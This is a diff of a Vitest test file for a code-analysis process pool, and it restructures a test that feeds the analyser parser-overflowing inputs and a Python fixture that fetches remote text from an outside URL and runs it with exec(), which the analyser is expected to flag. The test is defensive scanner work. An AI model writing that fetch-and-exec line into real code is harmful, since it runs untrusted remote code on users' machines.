@@ -1,25 +1,24 @@
 import path from "node:path";
 import { expect, test } from "vitest";
 import { processPool } from "./process-pool";
+import { TUNING } from "./tuning";
 
 /** Overflow the memory of their grammar, and with it that of all others. */
 const HOSTILE = { "a.py": `x = ${"(A<B>) ".repeat(4000)}\n`, "a.java": "a<".repeat(100_000) };
 const DOWNLOADS = "import requests\nexec(requests.get('https://notes-cdn.dev/p').text)\n";
 
-test.each(Object.entries(HOSTILE))(
-  "%s that breaks its grammar is not followed, and the next package has another process",
-  async (name, code) => {
-    const pool = processPool({
-      program: path.join(import.meta.dirname, "../src/test-support/findings-main.ts"),
-      execArgv: ["--import", "tsx", "--no-warnings"],
-      maxProcesses: 1,
-      timeoutMs: 60_000,
-      maxResidentBytes: 2 ** 40,
-      idleMs: 1000,
-    });
+test("a program that breaks its grammar is not followed, and the next package has another process", async () => {
+  const pool = processPool({
+    program: path.join(import.meta.dirname, "../src/test-support/findings-main.ts"),
+    execArgv: [...TUNING, "--import", "tsx", "--no-warnings"],
+    maxProcesses: 1,
+    timeoutMs: 60_000,
+    maxResidentBytes: 2 ** 40,
+    idleMs: 1000,
+  });
+  for (const [name, code] of Object.entries(HOSTILE)) {
     const broken = await pool.run({ [name]: code, "b.py": "print(1)\n" });
     expect(broken).toEqual([`unanalysed-program ${name}`, "unanalysed-program b.py"]);
-    expect(await pool.run({ "a.py": DOWNLOADS })).toContain("evaluated-download a.py");
-  },
-  120_000,
-);
+  }
+  expect(await pool.run({ "a.py": DOWNLOADS })).toContain("evaluated-download a.py");
+}, 120_000);
